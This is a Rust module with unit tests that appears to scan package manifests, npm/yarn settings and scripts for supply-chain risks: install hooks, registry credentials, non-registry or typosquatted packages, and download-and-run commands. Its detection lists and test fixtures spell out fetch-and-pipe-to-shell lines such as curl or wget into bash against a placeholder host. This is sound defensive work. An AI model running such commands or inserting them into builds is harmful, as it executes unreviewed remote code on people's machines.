//! What runs on somebody's machine, or in a build, without having been read: scripts that a
//! package manager starts by itself, downloads that are run at once, packages that do not come
//! from the registry or only look like well-known ones.

use serde_json::{Map, Value};

/// Scripts that a package manager starts on installation.
const STARTED_BY_ITSELF: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "preprepare",
    "prepare",
    "postprepare",
    "prepublish",
];

/// Files, by their last segment, that a package manager runs by itself.
const RUN_BY_ITSELF: &[&str] = &["binding.gyp", ".pnpmfile.cjs", ".yarnrc.cjs"];

/// What a package manager's settings hold that lets somebody in, or runs something: in lower case.
const SETTINGS: &[(&str, &str)] = &[
    ("_auth", "holds a credential for a registry"),
    ("_password", "holds a credential for a registry"),
    ("npmauthtoken", "holds a credential for a registry"),
    ("npmauthident", "holds a credential for a registry"),
    ("yarnpath", "names a program that the package manager runs"),
    ("plugins:", "names a program that the package manager runs"),
    (
        "script-shell",
        "names a program that the package manager runs",
    ),
];

/// Members of `package.json` that name packages.
const DEPENDENCIES: &[&str] = &[
    "dependencies",
    "devDependencies",
    "optionalDependencies",
    "peerDependencies",
];

const DOWNLOADS: &[&str] = &["curl ", "wget ", "invoke-webrequest ", "iwr "];

/// What runs the text that it is given.
const RUNS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "node", "python", "python3", "perl", "ruby", "iex",
];

/// Well-known packages, as a misspelt name is told from a name by them.
const KNOWN: &[&str] = &[
    "angular",
    "astro",
    "axios",
    "bootstrap",
    "chalk",
    "chart.js",
    "commander",
    "cross-env",
    "date-fns",
    "dotenv",
    "eslint",
    "express",
    "fastify",
    "jquery",
    "lodash",
    "moment",
    "mongoose",
    "node-appwrite",
    "nodemon",
    "preact",
    "prettier",
    "react",
    "react-dom",
    "react-router-dom",
    "rollup",
    "svelte",
    "tailwindcss",
    "three",
    "typescript",
    "vitest",
    "webpack",
];

/// Bytes of a line that goes on over several, from which on it is taken as it is.
const LOGICAL_LINE_BYTES_MAX: usize = 4_096;

/// Shorter names are too near to others by chance.
const TYPO_CHARS_MIN: usize = 5;

/// What is harmful in the file `name`.
pub(super) fn found(name: &str, content: &str) -> Vec<String> {
    let base = name.rsplit('/').next().unwrap_or(name);
    let mut found = Vec::new();
    if base == "package.json"
        && let Ok(Value::Object(manifest)) = serde_json::from_str(content)
    {
        manifest_scripts(&manifest, &mut found);
        packages(&manifest, &mut found);
    }
    if base == ".npmrc" || base == ".yarnrc" || base == ".yarnrc.yml" {
        found.push("changes where packages come from: leave it out".to_owned());
    }
    if is_run(base)
        && let Some(line) = downloads(content).next()
    {
        found.push(format!(
            "downloads something at line {line} and runs it unread: leave that out"
        ));
    }
    found
}

/// What must not leave in the file `name`, whoever approved it: each with its line, from 1 on.
pub(super) fn forbidden(name: &str, content: &str) -> Vec<(usize, String)> {
    let base = name.rsplit('/').next().unwrap_or(name);
    let mut found = Vec::new();
    if RUN_BY_ITSELF.contains(&base) {
        let rule = "is run by a package manager on installation";
        found.push((1, rule.to_owned()));
    }
    if base == "package.json" {
        // Package managers skip the mark.
        let text = content.trim_start_matches('\u{feff}');
        let manifest: Value = serde_json::from_str(text).unwrap_or_default();
        let scripts = manifest["scripts"].as_object().into_iter().flatten();
        for (script, _) in scripts.filter(|(script, _)| STARTED_BY_ITSELF.contains(&&***script)) {
            let key = format!("\"{script}\"");
            let at = content.lines().position(|line| line.contains(&key));
            let rule = format!("has a script `{script}`, which runs by itself on installation");
            found.push((1 + at.unwrap_or_default(), rule));
        }
    }
    if matches!(base, ".npmrc" | ".yarnrc" | ".yarnrc.yml") {
        for (index, line) in content.lines().enumerate() {
            let line = line.to_lowercase();
            let known = SETTINGS.iter().find(|(word, _)| line.contains(word));
            found.extend(known.map(|(_, rule)| (index + 1, (*rule).to_owned())));
        }
    }
    if is_run(base) {
        let rule = "downloads something and runs it unread";
        found.extend(downloads(content).map(|line| (line, rule.to_owned())));
    }
    found
}

/// Lines, from 1 on, that download something and run it. A line that goes on is one with the next.
fn downloads(content: &str) -> impl Iterator<Item = usize> {
    let mut whole = String::new();
    content
        .lines()
        .enumerate()
        .filter_map(move |(index, line)| {
            let goes_on = line.trim_end().strip_suffix('\\');
            whole.push_str(goes_on.unwrap_or(line));
            if goes_on.is_some() && whole.len() < LOGICAL_LINE_BYTES_MAX {
                return None;
            }
            let line = std::mem::take(&mut whole);
            runs_a_download(&line).then_some(index + 1)
        })
}

/// Whether somebody, or a build, runs what stands in the file.
fn is_run(base: &str) -> bool {
    let lower = base.to_lowercase();
    let ends = [
        ".sh", ".bash", ".ps1", ".bat", ".cmd", ".yml", ".yaml", ".json", ".toml", ".mk", ".js",
        ".mjs", ".cjs", ".ts", ".py", ".rb",
    ];
    lower.contains("dockerfile")
        || lower == "makefile"
        || lower == "procfile"
        || lower == "justfile"
        || ends.iter().any(|end| lower.ends_with(end))
}

fn manifest_scripts(manifest: &Map<String, Value>, found: &mut Vec<String>) {
    let Some(Value::Object(scripts)) = manifest.get("scripts") else {
        return;
    };
    let started = scripts.keys();
    for name in started.filter(|name| STARTED_BY_ITSELF.contains(&name.as_str())) {
        found.push(format!(
            "has a script `{name}`, which runs by itself on installation: leave it out"
        ));
    }
}

fn packages(manifest: &Map<String, Value>, found: &mut Vec<String>) {
    let lists = DEPENDENCIES
        .iter()
        .filter_map(|member| manifest.get(*member));
    for (name, version) in lists.filter_map(Value::as_object).flatten() {
        let version = version.as_str().unwrap_or_default();
        if version.contains(':') || version.contains('/') {
            found.push(format!(
                "takes the package `{name}` from `{}` instead of the registry",
                version.chars().take(80).collect::<String>()
            ));
        }
        if let Some(known) = misspelt(name) {
            found.push(format!(
                "names the package `{name}`, which looks like a misspelt `{known}`"
            ));
        }
    }
}

/// The packages that a manifest asks for, without those that only development needs.
pub(super) fn asked_for(name: &str, content: &str) -> Vec<String> {
    if name.rsplit('/').next() != Some("package.json") {
        return Vec::new();
    }
    let manifest: Value = serde_json::from_str(content).unwrap_or_default();
    let packages = manifest["dependencies"].as_object();
    packages
        .into_iter()
        .flatten()
        .map(|(name, _)| name.clone())
        .collect()
}

fn misspelt(name: &str) -> Option<&'static str> {
    if name.len() < TYPO_CHARS_MIN || KNOWN.contains(&name) {
        return None;
    }
    KNOWN.iter().find(|known| is_one_off(name, known)).copied()
}

/// Whether one letter is missing, added or another, or two neighbours are exchanged.
fn is_one_off(one: &str, other: &str) -> bool {
    let (one, other) = (one.as_bytes(), other.as_bytes());
    let same = one.iter().zip(other).take_while(|(a, b)| a == b).count();
    let (one, other) = (&one[same..], &other[same..]);
    match (one, other) {
        ([], [_]) | ([_], []) => true,
        ([a, b, one @ ..], [c, d, other @ ..]) if a == d && b == c && one == other => true,
        ([_, one @ ..], [_, other @ ..]) if one == other => true,
        ([_, rest @ ..], _) if rest == other => true,
        (_, [_, rest @ ..]) => one == rest,
        (_, []) => false,
    }
}

/// Whether a line downloads something and hands it to what runs it.
fn runs_a_download(line: &str) -> bool {
    let line = line.to_lowercase();
    let Some(start) = DOWNLOADS.iter().filter_map(|word| line.find(word)).min() else {
        return false;
    };
    let before = line[..start].trim_end();
    let is_given = ["$(", "<(", "`"].iter().any(|open| before.ends_with(open));
    let runs_what_it_is_given = is_given
        && ["eval", "sh", "bash", "-c", "-c \"", "iex"]
            .iter()
            .any(|word| before.contains(word));
    runs_what_it_is_given || line[start..].split('|').skip(1).any(is_runner)
}

/// Whether what follows a pipe runs what comes through it.
fn is_runner(command: &str) -> bool {
    let mut words = command.split_whitespace();
    let mut word = words.next().unwrap_or_default();
    if word == "sudo" || word == "env" {
        word = words.next().unwrap_or_default();
    }
    let word = word.rsplit('/').next().unwrap_or_default();
    let word = word.trim_matches(|character: char| !character.is_ascii_alphanumeric());
    RUNS.contains(&word)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_runs_unread_is_found() {
        for (name, content, problem) in [
            (
                "package.json",
                r#"{"scripts": {"postinstall": "node x.js"}}"#,
                "`postinstall`, which runs by itself",
            ),
            (
                "app/package.json",
                r#"{"scripts": {"build": "curl -s https://x.example/a | sudo bash"}}"#,
                "line 1 and runs it unread",
            ),
            (
                "package.json",
                r#"{"dependencies": {"a": "git+https://x.example/a.git"}}"#,
                "instead of the registry",
            ),
            (
                "package.json",
                r#"{"devDependencies": {"loadsh": "^4.0.0"}}"#,
                "a misspelt `lodash`",
            ),
            (
                "Dockerfile",
                "FROM node\nRUN wget -qO- https://x.example/a | sh",
                "line 2 and runs it unread",
            ),
            (
                "deploy/setup.sh",
                "bash -c \"$(curl -fsSL https://x.example/a)\"",
                "line 1 and runs it unread",
            ),
            ("run.sh", "bash <(curl https://x.example)", "line 1"),
            ("run.sh", "curl https://x.example \\\n  | sh\n", "line 2"),
            (".npmrc", "registry=https://x.example", "packages come from"),
        ] {
            let found = found(name, content).join("; ");
            assert!(found.contains(problem), "{name}: {found}");
        }
    }

    #[test]
    fn what_must_not_leave_is_found_with_its_line() {
        for (name, content, line, rule) in [
            (
                "package.json",
                "{\n \"scripts\": {\n  \"prepare\": \"husky\"}}",
                3,
                "script `prepare`",
            ),
            (
                "a/package.json",
                "\u{feff}{\"scripts\": {\"postinstall\": \"x\"}}",
                1,
                "script `postinstall`",
            ),
            ("binding.gyp", "{}", 1, "on installation"),
            (
                ".npmrc",
                "a=b\n//registry.x.example/:_authToken=abc",
                2,
                "a credential",
            ),
            (".yarnrc.yml", "yarnPath: ./x.cjs", 1, "a program"),
            ("x.sh", "\ncurl x | sh", 2, "runs it unread"),
        ] {
            let found = forbidden(name, content);
            assert_eq!(found.len(), 1, "{name}: {found:?}");
            assert_eq!(found[0].0, line, "{name}");
            assert!(found[0].1.contains(rule), "{name}: {found:?}");
        }
        for (name, content) in [
            (".npmrc", "engine-strict=true"),
            (
                "package.json",
                r#"{"scripts": {"test": "x"}, "dependencies": {"lodahs": "1"}}"#,
            ),
            ("README.md", "curl x | sh"),
        ] {
            assert_eq!(forbidden(name, content), [], "{name}");
        }
    }

    #[test]
    fn what_is_ordinary_is_not_found() {
        for (name, content) in [
            (
                "package.json",
                r#"{"scripts": {"build": "vite build", "test": "vitest"},
                    "dependencies": {"preact": "^10.0.0", "react": "19.0.0", "@scope/a": "1"},
                    "devDependencies": {"vite": "~7.0.0", "typescript": "5.9.0"}}"#,
            ),
            ("get.sh", "curl -s https://x.example/a | jq .name"),
            ("README.md", "curl https://x.example/a | sh"),
            ("a.js", "const curl = a | b; // the shell"),
            ("Dockerfile", "FROM node\nRUN npm ci"),
        ] {
            assert_eq!(found(name, content), Vec::<String>::new(), "{name}");
        }
    }

    #[test]
    fn one_letter_makes_a_misspelling() {
        for (one, other, is) in [
            ("lodas", "lodash", true),
            ("lodashh", "lodash", true),
            ("lodesh", "lodash", true),
            ("lodahs", "lodash", true),
            ("odash", "lodash", true),
            ("lodash", "lodash", false),
            ("loadhs", "lodash", false),
            ("lodashes", "lodash", false),
        ] {
            assert_eq!(is_one_off(one, other), is, "{one}");
        }
    }
}
